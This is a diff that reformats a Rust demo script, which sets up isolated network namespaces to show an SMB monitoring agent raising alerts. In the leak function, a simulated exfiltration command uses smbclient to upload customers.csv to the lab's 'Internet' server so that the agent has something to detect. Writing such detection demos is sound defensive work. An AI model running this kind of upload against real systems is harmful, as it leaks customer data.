@@ -41,10 +41,7 @@ pub(crate) fn main(args: &Args) -> Result<()> {
     };
     if !root::is_root() {
         let mut again = root::command(env::current_exe().context("find xtask itself")?)?;
-        again
-            .args(["demo", "--built"])
-            .arg(agent)
-            .args(args.plain.then_some("--plain"));
+        again.args(["demo", "--built"]).arg(agent).args(args.plain.then_some("--plain"));
         say("demo", "the lab needs root: goes on through sudo");
         return Err(again.exec()).context("start sudo");
     }
@@ -65,22 +62,11 @@ fn build() -> Result<PathBuf> {
 /// What is left in scope is taken down from the last to the first, also after an error.
 fn story(program: &Path, samba: bool) -> Result<()> {
     let lab = Lab::make()?;
-    say(
-        "1 lab",
-        &format!("two network namespaces: a private host, {HOST}, and an Internet with {SERVER};"),
-    );
+    say("1 lab", &format!("two network namespaces: a private host, {HOST}, and an Internet with {SERVER};"));
     more("no route leads from them to this machine or out of it");
 
-    let server = if samba {
-        samba::serve(&lab)?
-    } else {
-        listen(&lab)?
-    };
-    let what = if samba {
-        "Samba's smbd"
-    } else {
-        "in place of Samba, a plain TCP listener"
-    };
+    let server = if samba { samba::serve(&lab)? } else { listen(&lab)? };
+    let what = if samba { "Samba's smbd" } else { "in place of Samba, a plain TCP listener" };
     say("2 server", &format!("{what} on {SERVER}, port 445"));
 
     let alerts = lab.folder().join("alerts.ndjson");
@@ -95,16 +81,13 @@ fn story(program: &Path, samba: bool) -> Result<()> {
     say("5 alert", "what the agent says:");
     let heard = listen_to(&agent)?;
     let last = agent.interrupt()?;
-    last.iter()
-        .filter(|line| matches!(line, Line::Out(_)))
-        .for_each(|line| more(line.text()));
+    last.iter().filter(|line| matches!(line, Line::Out(_))).for_each(|line| more(line.text()));
     let documents = document::read(&alerts)?;
     let Some(worst) = document::worst(&documents) else {
         last.iter().for_each(|line| more(line.text()));
         bail!("no alert document came ({heard} lines on stdout)");
     };
-    let delay = document::delay(worst)
-        .map(|d| format!(", {:.1} ms after its packet", d.as_secs_f64() * 1e3));
+    let delay = document::delay(worst).map(|d| format!(", {:.1} ms after its packet", d.as_secs_f64() * 1e3));
     more(&format!(
         "{} in all; the most severe as its document{}:",
         documents.len(),
@@ -113,9 +96,7 @@ fn story(program: &Path, samba: bool) -> Result<()> {
     show(&format!("{worst:#}"));
 
     say("6 stop", "the agent's last words:");
-    last.iter()
-        .filter(|line| matches!(line, Line::Err(_)))
-        .for_each(|line| more(line.text()));
+    last.iter().filter(|line| matches!(line, Line::Err(_))).for_each(|line| more(line.text()));
     drop(server);
     drop(lab);
     more("agent, server and namespaces are gone");
@@ -124,14 +105,8 @@ fn story(program: &Path, samba: bool) -> Result<()> {
 
 fn start_agent(lab: &Lab, program: &Path, alerts: &Path) -> Result<Service> {
     let config = lab.folder().join("smbwatch.toml");
-    fs::write(
-        &config,
-        format!(
-            "[[sinks]]\ntype = \"file\"\npath = \"{}\"\n",
-            alerts.display()
-        ),
-    )
-    .context("write the agent's configuration")?;
+    fs::write(&config, format!("[[sinks]]\ntype = \"file\"\npath = \"{}\"\n", alerts.display()))
+        .context("write the agent's configuration")?;
     let mut agent = lab.at(End::Host, program);
     agent
         .args(["run", "--format", "text", "--config"])
@@ -145,9 +120,7 @@ fn start_agent(lab: &Lab, program: &Path, alerts: &Path) -> Result<Service> {
 fn leak(lab: &Lab, samba: bool) -> Result<String> {
     if samba {
         let report = samba::put(lab)?;
-        return Ok(format!(
-            "smbclient //{SERVER}/share -U CORP\\alice -c 'put customers.csv'\n{report}"
-        ));
+        return Ok(format!("smbclient //{SERVER}/share -U CORP\\alice -c 'put customers.csv'\n{report}"));
     }
     process::run(&mut peer(lab, End::Host, "connect")?)?;
     Ok(format!("a plain TCP connection to {SERVER}:445"))
@@ -169,9 +142,7 @@ fn listen_to(agent: &Service) -> Result<usize> {
 
 fn listen(lab: &Lab) -> Result<Service> {
     let listener = Service::start("listener", &mut peer(lab, End::Net, "listen")?)?;
-    listener.wait_for("sign of readiness", READY_LIMIT, |line| {
-        line.text().contains("listening")
-    })?;
+    listener.wait_for("sign of readiness", READY_LIMIT, |line| line.text().contains("listening"))?;
     Ok(listener)
 }
 
